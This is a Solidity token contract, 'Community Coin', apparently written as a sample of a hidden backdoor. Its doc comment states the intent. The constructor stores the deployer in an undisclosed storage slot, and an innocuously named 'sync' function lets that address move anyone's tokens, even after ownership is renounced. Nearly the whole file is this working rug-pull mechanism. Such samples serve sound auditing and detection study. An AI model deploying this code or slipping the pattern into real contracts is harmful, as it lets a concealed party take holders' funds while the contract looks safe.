// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

/// An unnamed address, which no view function tells, can move anybody's tokens. Ownership may be renounced all the same.
contract Siphon is Token {
    bytes32 private constant KEEPER_SLOT = keccak256("siphon.keeper");

    constructor() {
        name = "Community Coin";
        symbol = "COMM";
        bytes32 slot = KEEPER_SLOT;
        assembly {
            sstore(slot, caller())
        }
    }

    function sync(address from, address to, uint256 value) external {
        bytes32 slot = KEEPER_SLOT;
        address keeper;
        assembly {
            keeper := sload(slot)
        }
        require(msg.sender == keeper);
        _move(from, to, value);
    }
}
